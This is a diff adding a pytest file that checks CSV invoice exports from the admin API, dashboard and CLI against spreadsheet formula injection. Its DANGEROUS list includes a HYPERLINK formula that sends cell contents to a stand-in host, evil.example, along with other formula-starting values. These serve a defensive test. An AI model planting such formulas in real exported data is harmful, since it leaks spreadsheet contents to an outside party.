@@ -1,0 +1,51 @@
+"""Formula injection: an account name that a spreadsheet would evaluate (`=HYPERLINK(...)`)
+comes out of every CSV as text, prefixed with `'` (OWASP's rule), from the admin API, the
+operators' dashboard and `saas invoices` alike."""
+
+import csv
+import io
+import uuid
+
+from saas.csv_export import safe_cell, to_csv
+from saas.usage.service import current_month
+from tests.dashboard.test_sessions import signed_in
+
+DANGEROUS = ['=HYPERLINK("https://evil.example/?x="&A1,"Invoice")', "+1+2", "-3+4", "@SUM(1)"]
+
+
+def test_cells_that_start_a_formula_are_defused() -> None:
+    for value in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
+        assert safe_cell(value) == "'" + value
+    for value in ("acme", "a=b", " =1", "", -5, 3.5, None):
+        assert safe_cell(value) == value  # numbers stay numbers, inner signs are harmless
+    text = to_csv(["name", "count"], [{"name": "=1+1", "count": -2}])
+    assert list(csv.reader(io.StringIO(text))) == [["name", "count"], ["'=1+1", "-2"]]
+
+
+def test_every_invoice_csv_defuses_account_names(client, app_client, make_customer, saas) -> None:  # type: ignore[no-untyped-def]
+    operator = make_customer(scopes=("admin",))
+    h, plan = operator.headers, operator.plan_name
+    tag = uuid.uuid4().hex[:6]
+    names = {f"{name}{tag}": f"'{name}{tag}" for name in DANGEROUS}
+    names[f"acme -{tag}"] = f"acme -{tag}"  # an ordinary name is left alone
+    for name in names:
+        made = client.post(
+            "/admin/accounts",
+            headers=h,
+            json={"name": name, "email": f"{uuid.uuid4().hex[:8]}@example.com", "plan": plan},
+        )
+        assert made.status_code == 201, made.text
+
+    month = current_month()
+    api = client.get(f"/admin/invoices?month={month}&format=csv", headers=h)
+    assert api.status_code == 200, api.text
+    page = signed_in(app_client, operator.key).get(f"/dashboard/admin/invoices.csv?month={month}")
+    assert page.status_code == 200
+    cli = saas("invoices", "--month", month, "--format", "csv")
+    for source, text in {"api": api.text, "dashboard": page.text, "cli": cli.stdout}.items():
+        rows = list(csv.DictReader(io.StringIO(text)))
+        written = {row["account"] for row in rows}
+        for name, expected in names.items():
+            assert expected in written, (source, name)
+            assert name not in written or name == expected, (source, name)
+        assert all(row["total_cents"].isdecimal() for row in rows), source
